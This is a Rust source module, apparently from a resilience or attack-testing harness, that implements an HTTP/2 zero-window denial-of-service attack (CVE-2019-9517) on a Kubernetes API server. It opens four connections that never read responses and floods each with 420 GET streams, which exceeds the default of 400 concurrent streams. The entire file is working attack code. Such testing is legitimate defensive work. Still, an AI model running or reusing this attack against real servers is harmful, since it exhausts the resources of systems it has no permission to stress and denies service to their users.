//! Answers that nobody reads: HTTP/2 with SETTINGS_INITIAL_WINDOW_SIZE = 0 (RFC 9113, 6.9.2; CVE-2019-9517).

use super::connection::{Ask, Payload, Reading};
use super::{Arena, Attack, Error, collection, storm};

/// More than a server of Kubernetes answers at once by default: 400 that read.
const STREAMS: usize = 420;
/// A connection that was told to go is replaced so often.
const CONNECTIONS: usize = 4;

pub(super) const UNREAD_ANSWERS: Attack = Attack {
    name: "unread-answers",
    objects: 0,
    run: |arena| Box::pin(unread_answers(arena)),
};

/// Each GET is refused, and its answer cannot be sent.
async fn unread_answers(arena: &Arena) -> Result<String, Error> {
    let until = storm::end_of(arena.scale.hold);
    let path = format!("{}/any", collection(&arena.namespace));
    let mut shots = Vec::new();
    for _ in 0..CONNECTIONS {
        // One that is refused was told to go: that is what a server may do.
        let Ok(connection) = arena.stranger.connect(Reading::Never).await else {
            continue;
        };
        for _ in 0..STREAMS {
            shots.push((connection.clone(), Ask::get(&path), Payload::none()));
        }
    }
    let tally = storm::hold(shots, until).await;
    Ok(format!(
        "{CONNECTIONS} connections with {STREAMS} GETs each, unread: {tally}"
    ))
}
